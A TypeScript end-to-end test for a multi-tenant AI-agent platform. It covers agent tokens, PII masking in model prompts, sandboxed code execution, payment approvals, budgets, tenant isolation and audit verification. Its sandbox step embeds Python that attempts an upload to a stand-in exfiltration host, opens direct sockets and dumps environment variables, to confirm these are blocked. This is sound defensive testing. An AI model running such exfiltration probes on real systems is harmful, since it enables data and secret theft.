import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttpsServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import OpenAI from 'openai';
import { decodeJwt } from 'jose';
import { EVENTS_STREAM, SERVICE_NAMES, type ServiceName } from '@palisade/contracts';
import { kafkaClient } from '@palisade/kafka';
import { connectNats } from '@palisade/nats';
import { issueCertificate, loadCa, ServiceIdentity } from '@palisade/pki';
import { createTestSchema, eventually, httpsCaller, infra, type CallOptions, type Reply, TEST_APP_ROLE, TEST_DATABASE, TEST_OWNER, type TestSchema } from '@palisade/testing';
import { startStandIn, type StandIn } from '../services/llm-router/test/support/provider-standin';

// One agent's day (/work/shared/design/agent-path.md, issue 16), end to end over the public
// APIs: the seven built services as processes on the real infrastructure (PostgreSQL, TLS
// NATS with JetStream, Kafka, crun), each in a throw-away schema, at port offset 9500
// (auth 16601 … billing 16607). Tokens are the auth service's own: people sign in, the
// agent exchanges its key. Tenant `acme-…` lives the day; tenant `rival-…` must see none of it.
// Nothing is timed: asynchronous effects are awaited with `eventually`.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const runner = require('../scripts/platform-runner.js');
const OFFSET = 9500;
const port = (service: ServiceName) => runner.SERVICES[service] + OFFSET;
const suffix = randomBytes(3).toString('hex');
const OPS = `ops-${suffix}`; // the platform operator's tenant (bootstrap)
const ACME = `acme-${suffix}`;
const RIVAL = `rival-${suffix}`;
const PASSWORD = `Day-${randomBytes(9).toString('base64url')}-7x!`;
const INSTANCE = `day${suffix}`; // the orchestrator's containers, cgroups and network namespaces
const AUDIT_TOPIC = `palisade.audit.e2eday.${suffix}`;
const GERRIT_TOKEN = `gerrit-secret-${randomBytes(12).toString('hex')}`;
const EMAIL = 'erika.mustermann@example.com';
const IBAN = 'DE89 3704 0044 0532 0130 00';
const CARD = '4111 1111 1111 1111';

jest.setTimeout(120_000);

type Handle = { name: string; port: number; stop(): Promise<unknown> };

describe("one agent's day (seven services, two tenants)", () => {
  const workDir = mkdtempSync(join(tmpdir(), 'palisade-agent-day-'));
  const schemas = new Map<ServiceName, TestSchema>();
  let handles: Handle[] = [];
  let admin: ServiceIdentity;
  let onprem: StandIn;
  let cloud: StandIn;
  let gerrit: Server;
  const gerritSeen: Array<{ path?: string; authorization?: string }> = [];
  let gerritPort = 0;
  let devCa = '';

  // what the day creates, shared between the steps
  const tok: Record<string, string> = {};
  const id: Record<string, string> = {};
  let agentKey = '';
  const since = new Date(Date.now() - 60_000).toISOString();

  const call = (service: ServiceName, path: string, token: string | undefined, options: CallOptions = {}): Promise<Reply> =>
    httpsCaller(port(service))(path, { token, timeoutMs: 60_000, ...options });
  const ok = async (reply: Promise<Reply>, status = [200, 201, 204]): Promise<Reply> => {
    const r = await reply;
    if (!status.includes(r.status)) throw new Error(`HTTP ${r.status}: ${r.body.slice(0, 300)}`);
    return r;
  };
  /**
   * A call that needs a policy decision asked over NATS (credential, sandbox-orchestrator), repeated
   * until it gives `status`: the policy service may still be applying the rules just written, and
   * on the shared NATS every policy instance of a concurrently running suite is in the queue group
   * `policy` too; its denial for a tenant it does not know stays in the asking service's decision
   * cache for up to 30 s (README.md, "One agent's day").
   */
  const settled = (request: () => Promise<Reply>, status = 200): Promise<Reply> =>
    eventually(async () => {
      const r = await request();
      return r.status === status ? r : undefined;
    }, 75_000, 500);
  const signIn = async (tenant: string, username: string): Promise<string> =>
    (await ok(call('auth', `/v1/tenants/${tenant}/sign-in`, undefined, { method: 'POST', body: { username, password: PASSWORD } }))).json.accessToken;
  const agentToken = async (): Promise<string> => (await ok(call('auth', '/v1/tokens/agent', undefined, { method: 'POST', body: { apiKey: agentKey } }))).json.accessToken;
  const openai = (token: string) => new OpenAI({ apiKey: token, baseURL: `https://localhost:${port('llm-router')}/v1`, maxRetries: 0 });
  const budgetStatus = async () => (await ok(call('billing', `/v1/budgets/agent/${id.agent}`, tok.admin))).json;
  /** A decision asked as the service that runs the agent's tools (its client certificate), the agent's token forwarded. */
  const decide = async (tool: ServiceIdentity, body: object) => {
    const { cert, key } = tool.tlsOptions() as { cert: string; key: string };
    return (await ok(call('policy', '/v1/authorize', undefined, { method: 'POST', cert, key, body: { tenantId: ACME, ...body } }))).json;
  };

  beforeAll(async () => {
    setDefaultCACertificates([...getCACertificates('default'), readFileSync(join(infra('PALISADE_PKI_DIR'), 'ca.crt'), 'utf8')]);
    admin = await ServiceIdentity.fromDevCa({ caDir: infra('PALISADE_PKI_DIR'), kind: 'admin', name: 'platform' });
    await deleteAuditDurable();
    // two model providers that speak OpenAI's protocol and record what reaches them
    [onprem, cloud] = await Promise.all([startStandIn(), startStandIn()]);
    // the stand-in for Gerrit: HTTPS with a certificate of the development CA; records what it receives
    const ca = await loadCa(infra('PALISADE_PKI_DIR'));
    const cert = await issueCertificate(ca, { kind: 'server', name: 'gerrit-stand-in', dns: ['gerrit.acme.test'] });
    devCa = cert.caPem;
    gerrit = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
      gerritSeen.push({ path: req.url, authorization: req.headers.authorization });
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ changes: [{ id: 'I8473b95934', subject: 'release 4.2' }] }));
    });
    await new Promise<void>((resolve) => gerrit.listen(0, '127.0.0.1', resolve));
    gerritPort = (gerrit.address() as AddressInfo).port;

    for (const service of SERVICE_NAMES) schemas.set(service, await createTestSchema('day'));
    const tokenFile = join(workDir, 'bootstrap.token');
    writeFileSync(tokenFile, randomBytes(32).toString('base64url'), { mode: 0o600 });
    const envFor: Partial<Record<ServiceName, Record<string, string>>> = {
      auth: { AUTH_BOOTSTRAP_TOKEN_FILE: tokenFile, AUTH_OPERATOR_TENANT: OPS, AUTH_ADDRESS_LOCKOUT_THRESHOLD: '10000' },
      credential: { CREDENTIAL_ACCESS_POLICY: 'policy' },
      audit: {
        AUDIT_TOPIC,
        AUDIT_CHECKPOINT_TOPIC: `${AUDIT_TOPIC}.checkpoints`,
        AUDIT_CONSUMER: 'e2eday',
        AUDIT_DELIVER_POLICY: 'new',
        AUDIT_KEK_FILE: join(workDir, 'audit-kek.key'),
      },
    };
    // the orchestrator starts in step 1, once the vault holds the secret its egress rule names
    handles = start(SERVICE_NAMES.filter((s) => s !== 'sandbox-orchestrator'), envFor);
    await runner.waitReady(handles, { timeoutMs: 120_000 });

    // the platform operator (bootstrap) provisions the two tenants; its auditor verifies the chain
    const bootstrap = await call('auth', '/v1/bootstrap', undefined, {
      method: 'POST',
      headers: { authorization: `Bootstrap ${readFileSync(tokenFile, 'utf8')}` },
      body: { tenantId: OPS, tenantName: 'Operations', admin: { username: 'operator', password: PASSWORD } },
    });
    expect(bootstrap.status).toBe(201);
    tok.operator = await signIn(OPS, 'operator');
    for (const [tenantId, name] of [[ACME, 'Acme'], [RIVAL, 'Rival']]) {
      await ok(call('auth', '/v1/tenants', tok.operator, { method: 'POST', body: { tenantId, name, admin: { username: 'security-admin', password: PASSWORD } } }));
    }
    const opsAuditor = await ok(call('auth', '/v1/users', tok.operator, { method: 'POST', body: { username: 'platform-auditor', password: PASSWORD, roles: ['member'] } }));
    await ok(call('auth', `/v1/users/${opsAuditor.json.userId}/platform-auditor`, tok.operator, { method: 'PUT', body: { granted: true } }));
    tok.platformAuditor = await signIn(OPS, 'platform-auditor');
  }, 240_000);

  function start(services: ServiceName[], envFor: Partial<Record<ServiceName, Record<string, string>>>): Handle[] {
    return runner.startServices({
      services,
      portOffset: OFFSET,
      env: { LOG_LEVEL: 'warn', PGDATABASE: TEST_DATABASE, PGUSER: TEST_APP_ROLE, PG_MIGRATION_USER: TEST_OWNER },
      envFor: (service: ServiceName) => ({ PG_SCHEMA: schemas.get(service)!.schema, ...envFor[service] }),
      logDir: join(infra('PALISADE_HOME'), 'logs', 'e2e-agent-day'),
    });
  }

  async function deleteAuditDurable(): Promise<void> {
    const nc = await connectNats({ servers: infra('NATS_URL'), identity: admin, name: 'e2e-agent-day' });
    try {
      await (await nc.jetstreamManager()).consumers.delete(EVENTS_STREAM, 'audit-e2eday').catch(() => undefined);
    } finally {
      await nc.drain();
    }
  }

  afterAll(async () => {
    await Promise.all(handles.map((h) => h.stop()));
    await Promise.all([onprem?.close(), cloud?.close(), new Promise((r) => (gerrit ? gerrit.close(r) : r(undefined)))]);
    await deleteAuditDurable().catch(() => undefined);
    const kafka = kafkaClient({ brokers: infra('KAFKA_BROKERS'), identity: admin, clientId: 'e2e-agent-day', logLevel: 'nothing' as never });
    const kadmin = kafka.admin();
    await kadmin.connect();
    await kadmin.deleteTopics({ topics: [AUDIT_TOPIC, `${AUDIT_TOPIC}.checkpoints`] }).catch(() => undefined);
    await kadmin.disconnect();
    admin?.stop();
    for (const schema of schemas.values()) await schema.drop();
  }, 60_000);

  it('1. people set the day up through the public APIs: team, agent, tools, vault, egress rule, budgets, prices, models', async () => {
    tok.admin = await signIn(ACME, 'security-admin');
    tok.rivalAdmin = await signIn(RIVAL, 'security-admin');
    const adminId = decodeJwt(tok.admin).sub!;
    // people: alice (the agent's owner), carol (approves payments), audrey (the tenant's auditor)
    for (const [name, roles] of [['alice', ['member']], ['carol', ['member']], ['audrey', ['auditor']]] as const) {
      id[name] = (await ok(call('auth', '/v1/users', tok.admin, { method: 'POST', body: { username: name, password: PASSWORD, roles } }))).json.userId;
    }
    await ok(call('auth', '/v1/users', tok.rivalAdmin, { method: 'POST', body: { username: 'rita', password: PASSWORD, roles: ['auditor'] } }));
    await ok(call('auth', '/v1/teams', tok.admin, { method: 'POST', body: { teamId: 'platform', name: 'Platform' } }));
    await ok(call('auth', `/v1/teams/platform/members/${id.alice}`, tok.admin, { method: 'PUT' }));
    const agent = await ok(call('auth', '/v1/agents', tok.admin, { method: 'POST', body: { name: 'release-bot', teamId: 'platform', ownerId: id.alice } }));
    expect(agent.json).toMatchObject({ name: 'release-bot', ownerId: id.alice, teamId: 'platform', status: 'active' });
    id.agent = agent.json.agentId;
    const key = await ok(call('auth', `/v1/agents/${id.agent}/keys`, tok.admin, { method: 'POST', body: { name: 'ci', scopes: [] } }));
    agentKey = key.json.apiKey;
    for (const name of ['alice', 'carol', 'audrey']) tok[name] = await signIn(ACME, name);
    tok.rivalAuditor = await signIn(RIVAL, 'rita');

    // policy: who runs tools and pays (alice and her agent), who approves payments (carol), who keeps the vault (the admin)
    const policy = (method: string, path: string, body: object) => ok(call('policy', path, tok.admin, { method, body }));
    for (const role of ['release-engineer', 'payment-approver', 'secrets-admin']) await policy('PUT', `/v1/roles/${role}`, { inherits: [] });
    await policy('POST', '/v1/assignments', {
      assignments: [
        { subject: `user:${id.alice}`, role: 'release-engineer' },
        { subject: `agent:${id.agent}`, role: 'release-engineer' },
        { subject: `user:${id.carol}`, role: 'payment-approver' },
        // alice holds the approver role too: four eyes across acting-for still keeps her from approving her agent (step 5)
        { subject: `user:${id.alice}`, role: 'payment-approver' },
        { subject: `user:${adminId}`, role: 'secrets-admin' },
      ],
    });
    await policy('PUT', '/v1/policies/agent-day', {
      rules: [
        { id: 'engineers-run-tools', effect: 'allow', subject: 'role:release-engineer', resource: 'tool', action: 'invoke' },
        { id: 'engineers-pay', effect: 'allow', subject: 'role:release-engineer', resource: 'payment', action: 'payments.create' },
        { id: 'approvers-approve', effect: 'allow', subject: 'role:payment-approver', resource: 'approval', action: 'approve' },
        { id: 'admin-creates-secrets', effect: 'allow', subject: 'role:secrets-admin', resource: 'credential', action: 'credential.create' },
        { id: 'engineers-use-gerrit', effect: 'allow', subject: 'role:release-engineer', resource: 'credential', action: 'credential.use' },
        { id: 'admin-reads-secrets', effect: 'allow', subject: 'role:secrets-admin', resource: 'credential', action: 'credential.read' },
      ],
    });
    // `gerrit` is the tool the egress rule's lease is granted for (the secret's scope tool:gerrit)
    await policy('PUT', '/v1/tools', { tools: ['gerrit', 'execute_code', 'payments.create'] });
    await policy('PUT', `/v1/agents/${id.agent}/tools`, { tools: ['gerrit', 'execute_code', 'payments.create'] });

    // the vault: the Gerrit token, usable only for tool gerrit (the credential service asks the policy service)
    const secret = await settled(() => call('credential', '/v1/secrets', tok.admin, { method: 'POST', body: { name: 'gerrit-token', value: GERRIT_TOKEN, scopes: ['tool:gerrit'] } }), 201);
    id.secret = secret.json.id;
    expect(secret.body).not.toContain(GERRIT_TOKEN);

    // the egress rule (through the orchestrator's API once it is ready, below): GET /a/changes/ on
    // the Gerrit stand-in, the vault's secret injected as Authorization
    const egressRule = {
      id: 'gerrit-changes',
      host: 'gerrit.acme.test',
      ports: [gerritPort],
      methods: ['GET'],
      pathPrefixes: ['/a/changes/'],
      addresses: ['127.0.0.1'],
      upstreamCaPem: devCa,
      inject: { secretId: id.secret, tool: 'gerrit', as: { type: 'header', name: 'Authorization', prefix: 'Bearer ' } },
    };
    const [orchestrator] = start(['sandbox-orchestrator'], { 'sandbox-orchestrator': { SANDBOX_INSTANCE: INSTANCE } });
    handles.push(orchestrator);

    // billing: the price table, team $50 a month, agent $5 a day (micro-USD)
    const price = (provider: string, model: string, kind: string, micros: number) => ({ provider, model, kind, microsPerMillion: String(micros) });
    await ok(call('billing', '/v1/price-tables', tok.admin, {
      method: 'PUT',
      body: { currency: 'USD', entries: [price('onprem', 'llama-local', 'input_tokens', 1_000_000), price('onprem', 'llama-local', 'output_tokens', 2_000_000), price('cloud', 'gpt-cloud', 'input_tokens', 2_500_000), price('cloud', 'gpt-cloud', 'output_tokens', 10_000_000)] },
    }));
    await ok(call('billing', '/v1/budgets/team/platform', tok.admin, { method: 'PUT', body: { limitMicros: '50000000', period: 'month', timeZone: 'UTC', hard: true } }));
    await ok(call('billing', `/v1/budgets/agent/${id.agent}`, tok.admin, { method: 'PUT', body: { limitMicros: '5000000', period: 'day', timeZone: 'UTC', hard: true } }));
    const effective = await ok(call('billing', '/v1/price-tables/effective', tok.admin));
    expect(effective.body).toContain('llama-local');

    // models: the private one (inside the perimeter) and an external one, one route preferring the external
    const router = (path: string, body: object) => ok(call('llm-router', path, tok.admin, { method: 'PUT', body }));
    await router('/v1/router/providers/onprem', { kind: 'openai', baseUrl: `${onprem.url}/v1`, compliance: 'private' });
    await router('/v1/router/providers/cloud', { kind: 'openai', baseUrl: `${cloud.url}/v1`, compliance: 'external' });
    await router('/v1/router/models/local', { providerId: 'onprem', upstreamModel: 'llama-local', contextWindow: 128000, maxOutputTokens: 2048, inputMicrosPerMTok: 1_000_000, outputMicrosPerMTok: 2_000_000 });
    await router('/v1/router/models/gpt', { providerId: 'cloud', upstreamModel: 'gpt-cloud', contextWindow: 128000, maxOutputTokens: 4096, inputMicrosPerMTok: 2_500_000, outputMicrosPerMTok: 10_000_000 });
    await router('/v1/router/routes/default', { candidates: ['gpt', 'local'] });
    const catalog = await ok(call('llm-router', '/v1/router/catalog', tok.admin));
    expect(catalog.json.providers.onprem).toMatchObject({ compliance: 'private' });
    expect(catalog.json.providers.cloud).toMatchObject({ compliance: 'external' });

    await runner.waitReady([orchestrator], { timeoutMs: 90_000 });
    // PUT /v1/egress-rules/tenant: the tenant admin's policy:admin
    await ok(call('sandbox-orchestrator', '/v1/egress-rules/tenant', tok.admin, { method: 'PUT', body: { rules: [egressRule] } }));
  });

  it('2. the agent exchanges its key for a token acting for alice, in team platform', async () => {
    tok.agent = await agentToken();
    expect(decodeJwt(tok.agent)).toMatchObject({ ptp: 'agent', sub: id.agent, tid: ACME, act: { sub: id.alice }, teams: ['platform'], dept: 'platform' });
    const me = await ok(call('auth', '/v1/me/agent', tok.agent));
    expect(me.json).toMatchObject({ agentId: id.agent, actingFor: id.alice });
  });

  it('3. a prompt with an e-mail, an IBAN and a card: masked, routed to the private model, reserved and settled in billing, audited with the text only in personal', async () => {
    onprem.records.length = 0;
    cloud.records.length = 0;
    const prompt = `Refund ${EMAIL} on IBAN ${IBAN}, card ${CARD}, for the release 4.2 outage.`;
    const { data: completion, response } = await openai(tok.agent).chat.completions.create({ model: 'default', messages: [{ role: 'user', content: prompt }] }).withResponse();
    const requestId = response.headers.get('x-palisade-request-id')!;
    expect(requestId).toBeTruthy();
    // the caller gets its own values back; the external provider received nothing, the private one only placeholders
    expect(completion.choices[0].message.content).toContain(EMAIL);
    expect(cloud.records).toHaveLength(0);
    expect(onprem.records).toHaveLength(1);
    for (const value of [EMAIL, IBAN, CARD]) expect(onprem.records[0].body).not.toContain(value);
    expect(onprem.records[0].body).toContain('⟦EMAIL_1⟧');

    // billing: the hold was reserved and settled with the real usage: posted > 0, nothing pending
    const status = await eventually(async () => {
      const s = await budgetStatus();
      return s.pendingMicros === '0' && Number(s.postedMicros) > 0 ? s : undefined;
    }, 30_000, 200);
    expect(Number(status.postedMicros)).toBeLessThanOrEqual(Number(status.limitMicros));
    const usage = await ok(call('billing', `/v1/usage?from=${encodeURIComponent(since)}&to=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}&groupBy=agent,model`, tok.admin));
    expect(usage.body).toContain(id.agent);

    // audit: the model-io event, read by the tenant's auditor through the audit API; the prompt only in `personal` (alice's)
    const event = await eventually(async () => {
      const r = await call('audit', `/v1/audit/events?type=llm-router.model-call.recorded&from=${encodeURIComponent(since)}&limit=100`, tok.audrey);
      return r.status === 200 ? r.json.items.find((i: { event: { data: { requestId?: string } } }) => JSON.stringify(i.event).includes(requestId)) : undefined;
    }, 60_000, 500);
    expect(event.event).toMatchObject({ tenantId: ACME, actor: { type: 'agent', id: id.agent }, data: { providerId: 'onprem', classification: 'confidential', outcome: 'served' } });
    expect(event.event.personal).toMatchObject({ subjectId: id.alice });
    expect(JSON.stringify(event.event.personal)).toContain(EMAIL);
    const outsidePersonal = JSON.stringify({ ...event.event, personal: undefined });
    for (const value of [EMAIL, IBAN, CARD]) expect(outsidePersonal).not.toContain(value);
  });

  it("4. execute_code runs in a sandbox of the agent's session and its output comes back; the egress proxy refuses another host and a direct IP, and the Gerrit token never reaches the code", async () => {
    // alice opens the session and lets her agent work in it; the agent makes a sandbox and runs code with its own token
    const session = await settled(() => call('sandbox-orchestrator', '/v1/sessions', tok.alice, { method: 'POST', body: {} }), 201);
    id.session = session.json.id;
    await settled(() => call('sandbox-orchestrator', `/v1/sessions/${id.session}/agents/${id.agent}`, tok.alice, { method: 'PUT' }));
    const sandbox = await settled(() => call('sandbox-orchestrator', `/v1/sessions/${id.session}/sandboxes`, tok.agent, { method: 'POST', body: { template: 'small' } }), 201);
    expect(sandbox.json).toMatchObject({ sessionId: id.session, status: 'ready' });
    id.sandbox = sandbox.json.id;
    const code = [
      'import os, socket, urllib.request',
      'print("answer", 6 * 7)',
      'def fetch(url):',
      '    try:',
      '        r = urllib.request.urlopen(url, timeout=15)',
      '        print("fetched", url, r.status, r.read().decode())',
      '    except Exception as e:',
      '        print("refused", url, e)',
      `fetch("https://gerrit.acme.test:${gerritPort}/a/changes/?q=status:open")`,
      'fetch("https://exfil.example/upload")',
      'host_end = os.environ["HTTPS_PROXY"].split("//")[1].split(":")[0]',
      `for target in [("1.1.1.1", 443), (host_end, ${gerritPort}), ("127.0.0.1", ${gerritPort})]:`,
      '    try:',
      '        socket.create_connection(target, timeout=5).close()',
      '        print("direct connected", target)',
      '    except Exception as e:',
      '        print("direct refused", target, e)',
      'print("env", sorted(os.environ.items()))',
    ].join('\n');
    const run = await settled(() => call('sandbox-orchestrator', `/v1/sandboxes/${id.sandbox}/executions`, tok.agent, { method: 'POST', body: { language: 'python', code } }));
    expect(run.json).toMatchObject({ status: 'finished', reason: 'exited', exitCode: 0 });
    const out = `${run.json.stdout}${run.json.stderr}`;
    expect(out).toContain('answer 42');
    // another host and every direct connection are refused; the code's output and environment hold no token
    expect(out).toMatch(/refused https:\/\/exfil\.example\/upload .*403/);
    expect(out).not.toContain('direct connected');
    expect(out.match(/direct refused/g)).toHaveLength(3);
    expect(out).toContain('HTTPS_PROXY');
    expect(out).not.toContain(GERRIT_TOKEN);
    // injection: the proxy leased the vault's token for this session and tool, and Gerrit received it; the code saw only the answer
    expect(out).toMatch(/fetched https:\/\/gerrit\.acme\.test:\d+\/a\/changes\/\?q=status:open 200 .*release 4\.2/);
    expect(gerritSeen).toEqual([{ path: '/a/changes/?q=status:open', authorization: `Bearer ${GERRIT_TOKEN}` }]);
    // the proxy's decisions are in the audit chain (audit class tool_call): the refusal of exfil.example among them
    const decisions = await eventually(async () => {
      const r = await call('audit', `/v1/audit/events?type=sandbox-orchestrator.egress.decisions_recorded&from=${encodeURIComponent(since)}&limit=100`, tok.audrey);
      const items = r.status === 200 ? (r.json.items as Array<{ event: { data: { sandboxId: string } } }>).filter((i) => i.event.data.sandboxId === id.sandbox) : [];
      return items.some((i) => JSON.stringify(i).includes('exfil.example')) ? items : undefined;
    }, 60_000, 500);
    expect(JSON.stringify(decisions)).not.toContain(GERRIT_TOKEN);
  });

  it('5. a critical payment waits for a person: the decision says approval required; not alice (four eyes across acting-for) but carol approves; that one call with those parameters is allowed once, no other', async () => {
    // the tool runner (a Palisade service, by its client certificate) asks with the agent's token as it was presented
    const runnerIdentity = await ServiceIdentity.fromDevCa({ caDir: infra('PALISADE_PKI_DIR'), name: 'sandbox-orchestrator' });
    try {
      const subject = { type: 'agent', id: id.agent, token: tok.agent };
      const payment = { action: 'payments.create', resource: { type: 'payment', id: 'invoice-4711' }, parameters: { amount: 1200, currency: 'EUR', payee: 'vendor-42' } };
      const first = await eventually(async () => {
        const d = await decide(runnerIdentity, { subject, ...payment });
        return d.decision === 'requires_approval' ? d : undefined;
      }, 20_000, 200);
      expect(first).toMatchObject({ decision: 'requires_approval', actionHash: expect.any(String) });
      const requested = await ok(call('policy', '/v1/approvals', tok.agent, { method: 'POST', body: { ...payment, service: 'sandbox-orchestrator' } }));
      expect(requested.json.actionHash).toBe(first.actionHash);
      id.approval = requested.json.approvalId;
      // alice holds the approver role, but may not approve what her own agent asked; nor may the agent
      const byAlice = await call('policy', `/v1/approvals/${id.approval}/approve`, tok.alice, { method: 'POST' });
      expect([byAlice.status, byAlice.json?.error?.message]).toEqual([403, 'the user an agent acts for may not approve or reject its request']);
      expect((await call('policy', `/v1/approvals/${id.approval}/approve`, tok.agent, { method: 'POST' })).status).toBe(403);
      const approved = await ok(call('policy', `/v1/approvals/${id.approval}/approve`, tok.carol, { method: 'POST' }));
      const approvalToken = approved.json.token as string;
      expect(approvalToken).toBeTruthy();
      // other parameters are not what was approved (and do not use the token up)
      const other = await decide(runnerIdentity, { subject, ...payment, parameters: { ...payment.parameters, amount: 9999 }, approvalToken });
      expect(other).toMatchObject({ decision: 'deny', reason: expect.stringContaining('another action') });
      await expect(decide(runnerIdentity, { subject, ...payment, approvalToken })).resolves.toMatchObject({ decision: 'allow', rule: 'approval' });
      await expect(decide(runnerIdentity, { subject, ...payment, approvalToken })).resolves.toMatchObject({ decision: 'deny', reason: 'approval token already used' });
      expect((await ok(call('policy', `/v1/approvals/${id.approval}`, tok.carol))).json.status).toBe('consumed');
    } finally {
      runnerIdentity.stop();
    }
  });

  it("6. the budget is spent: the next model call gets 429 naming the agent's budget; nothing was spent beyond the limit", async () => {
    // the day's budget is nearly gone: alice's admin leaves it 600 micro-USD of room
    const before = await eventually(async () => {
      const s = await budgetStatus();
      return s.pendingMicros === '0' ? s : undefined;
    }, 30_000, 200);
    const limit = Number(before.postedMicros) + 600;
    await ok(call('billing', `/v1/budgets/agent/${id.agent}`, tok.admin, { method: 'PUT', body: { limitMicros: String(limit), period: 'day', timeZone: 'UTC', hard: true } }));
    const client = openai(tok.agent);
    let refusal: unknown;
    let served = 0;
    for (let i = 0; i < 40 && !refusal; i++) {
      onprem.records.length = 0;
      refusal = await client.chat.completions.create({ model: 'local', max_tokens: 200, messages: [{ role: 'user', content: `release notes, part ${i}` }] }).then(
        () => void served++,
        (e: unknown) => e,
      );
    }
    expect(served).toBeGreaterThan(0);
    expect(refusal).toBeInstanceOf(OpenAI.RateLimitError);
    const body = (refusal as InstanceType<typeof OpenAI.RateLimitError>).error as { type: string; code: string; message: string; budget: { level: string; limitMicros: number; resetsAt: string } };
    expect(body).toMatchObject({ type: 'insufficient_quota', code: 'budget_exceeded', budget: { level: 'agent', limitMicros: limit } });
    expect(body.message).toContain(`the agent budget has no room for this request (limit ${limit} micro-USD, resets at`);
    expect(onprem.records).toHaveLength(0); // the refused call reached no model
    // what the served calls used is posted; posted and what is still held never exceed the limit
    let last: { postedMicros: string; pendingMicros: string } | undefined;
    const after = await eventually(async () => {
      last = await budgetStatus();
      return Number(last!.postedMicros) > Number(before.postedMicros) ? last : undefined;
    }, 30_000, 200).catch((e: Error) => { throw new Error(`${e.message}; last status ${JSON.stringify(last)}`); });
    expect(Number(after.postedMicros) + Number(after.pendingMicros)).toBeLessThanOrEqual(limit);
    const settledAll = await eventually(async () => {
      last = await budgetStatus();
      return last!.pendingMicros === '0' ? last : undefined;
    }, 30_000, 200).catch((e: Error) => { throw new Error(`${e.message}; last status ${JSON.stringify(last)}`); });
    expect(Number(settledAll.postedMicros)).toBeLessThanOrEqual(limit);
  });

  it('7. the second tenant sees none of it: 404 or empty on agents, sessions, sandboxes, approvals, audit, billing and models', async () => {
    const rival = tok.rivalAdmin;
    const foreign = [id.agent, id.session, id.sandbox, id.approval, id.alice, ACME];
    const probe = async (service: ServiceName, path: string, token: string, status: number) => {
      const r = await call(service, path, token);
      expect([service, path, r.status]).toEqual([service, path, status]);
      for (const s of foreign) expect(r.body).not.toContain(s);
      return r;
    };
    await probe('auth', `/v1/agents/${id.agent}`, rival, 404);
    expect((await probe('auth', '/v1/agents', rival, 200)).json).toEqual([]);
    await probe('sandbox-orchestrator', `/v1/sessions/${id.session}`, rival, 404);
    await probe('sandbox-orchestrator', `/v1/sandboxes/${id.sandbox}`, rival, 404);
    const sessions = await probe('sandbox-orchestrator', '/v1/sessions', rival, 200);
    expect(sessions.json.items ?? sessions.json).toEqual([]);
    await probe('policy', `/v1/approvals/${id.approval}`, rival, 404);
    await probe('billing', `/v1/budgets/agent/${id.agent}`, rival, 404);
    await probe('billing', '/v1/budgets/team/platform', rival, 404);
    await probe('billing', `/v1/usage?from=${encodeURIComponent(since)}&to=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}&groupBy=agent`, rival, 200);
    const catalog = await probe('llm-router', '/v1/router/catalog', rival, 200);
    expect(catalog.json).toMatchObject({ providers: {}, models: {}, routes: {} });
    // the rival tenant's auditor: not one record of acme's day, whichever filter it names
    const page = await probe('audit', `/v1/audit/events?from=${encodeURIComponent(since)}&limit=1000`, tok.rivalAuditor, 200);
    expect((page.json.items as Array<{ event: { tenantId: string } }>).every((i) => i.event.tenantId === RIVAL)).toBe(true);
    const named = await probe('audit', `/v1/audit/events?tenant=${ACME}&type=llm-router.model-call.recorded&from=${encodeURIComponent(since)}`, tok.rivalAuditor, 200);
    expect(named.json.items).toEqual([]);
  });

  it('the audit chain of the day verifies (ok, or unverified until the next checkpoint seals it; never failed)', async () => {
    // every partition holding acme's records, verified from the topic by the platform auditor
    const items = (await ok(call('audit', `/v1/audit/events?from=${encodeURIComponent(since)}&limit=1000`, tok.audrey))).json.items as Array<{ partition: number; event: { tenantId: string } }>;
    expect(items.length).toBeGreaterThan(10);
    const partitions = [...new Set(items.map((i) => i.partition))];
    for (const partition of partitions) {
      const verified = await eventually(async () => {
        const r = await call('audit', `/v1/audit/verify?partition=${partition}`, tok.platformAuditor);
        return r.status === 200 && r.json.status === 'ok' ? r.json : undefined;
      }, 40_000, 1000).catch(async () => (await ok(call('audit', `/v1/audit/verify?partition=${partition}`, tok.platformAuditor))).json);
      expect(['ok', 'unverified']).toContain(verified.status);
      expect(verified.status).not.toBe('failed');
      expect(verified.failure).toBeUndefined();
    }
  });
});
